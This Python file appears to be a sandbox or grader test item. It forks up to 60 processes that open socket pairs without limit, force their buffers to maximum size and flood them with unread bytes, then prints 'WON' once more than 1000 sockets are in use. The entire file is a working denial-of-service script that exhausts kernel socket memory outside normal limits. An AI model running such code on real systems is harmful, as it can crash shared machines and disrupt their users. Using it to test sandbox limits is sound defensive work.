"""Every process opens sockets until it may open no more and fills each with bytes that nobody reads."""
# unlisted: blank
# earns at most: 0
# status: graded, timeout, crashed, out-of-memory
# must not: hold memory that no limit counts
# %% after setup
import os, socket, time

def fill():
    kept = []
    while True:
        kept.append(socket.socketpair())
        for one in kept[-1]:
            for option in (socket.SO_SNDBUF, socket.SO_RCVBUF, 32, 33):
                try:
                    one.setsockopt(socket.SOL_SOCKET, option, 2**30)
                except OSError:
                    pass
            one.setblocking(False)
            try:
                while True:
                    one.send(bytes(65536))
            except OSError:
                pass
for _ in range(60):
    try:
        if os.fork() == 0:
            try:
                fill()
            finally:
                time.sleep(1000)
    except OSError:
        break
time.sleep(3)
with open("/proc/net/sockstat") as file:
    used = int(file.readline().split()[2])
if used > 1000:
    print("WON", used)
